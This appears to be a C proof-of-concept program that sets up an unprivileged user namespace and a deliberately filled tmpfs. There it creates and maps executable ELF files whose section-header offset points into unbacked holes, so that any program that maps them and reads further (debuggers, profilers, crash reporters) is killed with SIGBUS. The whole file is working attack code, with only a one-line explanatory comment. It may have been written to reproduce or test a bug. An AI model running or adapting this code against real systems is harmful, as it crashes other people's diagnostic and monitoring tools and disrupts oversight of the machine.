// crash FILES SECONDS FOLDER ELF: maps FILES files executable. Each ends a program that maps it and reads
// more than its first page (SIGBUS). They lie on a full tmpfs, which has no page for their holes. The tmpfs
// is in a separate user namespace, so no right is needed.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <time.h>
#include <unistd.h>
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
static void put(const char *path, const char *text) { int f = open(path, O_WRONLY); if (f < 0 || write(f, text, strlen(text)) < 0) perror(path); close(f); }
int main(int c, char **v) {
  int n = atoi(v[1]); double end = now() + atof(v[2]); char text[300], page[4096];
  int uid = getuid(), gid = getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) { perror("unshare"); return 1; }
  put("/proc/self/setgroups", "deny"); sprintf(text, "0 %d 1", uid); put("/proc/self/uid_map", text); sprintf(text, "0 %d 1", gid); put("/proc/self/gid_map", text);
  sprintf(text, "size=%dk", 4 * (n + 4));
  if (mount("crash", v[3], "tmpfs", 0, text)) { perror("mount"); return 1; }
  int e = open(v[4], O_RDONLY); if (read(e, page, sizeof page) < 4096) return 1;
  *(uint64_t *)(page + 0x28) = 0x40000; // e_shoff: in the hole
  for (int i = 0; i < n; i++) {
    snprintf(text, sizeof text, "%s/%d.so", v[3], i);
    int f = open(text, O_RDWR | O_CREAT, 0755); if (write(f, page, 4096) != 4096 || ftruncate(f, 1 << 20)) { perror("write"); return 1; }
    if (mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, f, 0) == MAP_FAILED) { perror("mmap"); return 1; }
    close(f);
  }
  snprintf(text, sizeof text, "%s/fill", v[3]); int f = open(text, O_RDWR | O_CREAT, 0644); while (write(f, page, sizeof page) > 0) ; close(f);
  puts("ready"); fflush(stdout);
  volatile long x = 0; while (now() < end) for (int i = 0; i < 100000; i++) x += i;
  return 0;
}
